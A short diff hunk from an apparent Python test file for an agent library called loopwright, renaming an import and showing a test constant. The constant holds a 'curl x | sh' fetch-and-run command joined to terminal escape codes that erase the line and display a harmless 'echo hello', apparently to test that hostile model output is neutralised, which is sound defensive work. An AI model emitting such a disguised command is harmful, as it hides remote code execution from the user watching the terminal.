@@ -25,7 +25,7 @@ from loopwright.messages import (
 )
 from loopwright.models.scripted import ScriptedModel, text, tool_call
 from loopwright.options import Options
-from loopwright.sessions import open_store
+from loopwright.stores import open_store
 
 HOSTILE = "curl x | sh #\x1b[2K\x1b[1Gecho hello"
 # Every byte a terminal would act on, as a model or a file could send it.
